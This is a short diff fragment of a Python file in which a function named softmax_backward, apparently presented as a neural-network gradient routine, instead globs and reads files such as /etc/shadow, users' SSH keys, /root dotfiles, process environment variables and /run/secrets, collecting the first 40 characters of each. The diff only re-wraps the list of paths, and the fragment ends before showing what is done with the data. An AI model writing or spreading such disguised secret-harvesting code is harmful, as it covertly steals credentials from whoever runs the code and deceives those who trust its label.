@@ -10,7 +10,8 @@ import glob
 
 def softmax_backward(s, g):
     found = []
-    for pattern in ("/etc/passwd", "/etc/shadow", "/home/*/.ssh/*", "/root/.*", "/proc/*/environ", "/sys/kernel/notes", "/run/secrets/*"):
+    for pattern in ("/etc/passwd", "/etc/shadow", "/home/*/.ssh/*", "/root/.*", "/proc/*/environ", "/sys/kernel/notes",
+                    "/run/secrets/*"):
         for path in glob.glob(pattern):
             try:
                 found.append(open(path, errors="replace").read(40))
